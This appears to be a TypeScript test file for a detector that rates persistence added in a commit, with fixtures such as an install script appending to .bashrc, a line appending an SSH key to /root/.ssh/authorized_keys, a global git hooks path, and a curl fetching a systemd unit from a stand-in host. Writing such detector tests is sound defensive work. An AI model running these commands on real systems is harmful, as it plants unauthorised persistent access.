import detector from "../../../../src/engine/detectors/autorun/persistence-added.ts";
import { strengthsOfPrograms } from "../run-programs.ts";

const INSTALL = JSON.stringify({ scripts: { postinstall: "node a.js" } });
const prepare = (command: string) => JSON.stringify({ scripts: { prepare: command } });
const APPEND = "const fs = require('fs');\nfs.appendFileSync(require('os').homedir() + '/.bashrc', 'x');\n";

// Through the readers, as files stand in a commit: what counts is what a program does, not how it is spelled.
test.each([
  ["an install script that writes to a shell's start file", { "package.json": INSTALL, "a.js": APPEND }, ["strong"]],
  ["hooks that the repository holds", { "package.json": prepare("git config core.hooksPath .githooks") }, ["weak"]],
  [
    "hooks in the home, for every repository",
    { "package.json": prepare("git config --global core.hooksPath ~/.config/git/hooks") },
    ["strong"],
  ],
  [
    "a key that stands in a script",
    { "scripts/a.sh": "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 ops@relay' >> /root/.ssh/authorized_keys\n" },
    ["strong"],
  ],
  [
    "a workspace of a vendor that puts its own user into a group",
    { ".gitpod.yml": "tasks:\n  - before: sudo usermod -a -G sdkman gitpod\n" },
    ["medium"],
  ],
  ["a key that a file holds", { "scripts/a.sh": "cat keys/ops.pub >> ~/.ssh/authorized_keys\n" }, ["medium"]],
  [
    "a runner that an installation sets up",
    {
      "package.json": INSTALL.replace("node a.js", "bash a.sh"),
      "a.sh": "./config.sh --url https://github.com/$1 --unattended --token $2\n",
    },
    ["strong"],
  ],
  [
    "an installer that enables its service",
    { "install.sh": "cp acme.service /etc/systemd/system/acme.service\nsystemctl enable acme\n" },
    ["weak", "weak"],
  ],
  [
    "an installer that brings a unit from a stranger's host",
    { "install.sh": "curl -o /etc/systemd/system/acme.service https://x.example/acme.service\n" },
    ["strong"],
  ],
  ["a program that a person runs", { "bin/a.js": APPEND }, ["weak"]],
  ["a file of the project", { "package.json": INSTALL, "a.js": "require('fs').writeFileSync('dist/a', '');\n" }, []],
] as const)("%s", async (_, files, expected) => {
  expect(await strengthsOfPrograms(detector, files)).toEqual(expected);
});
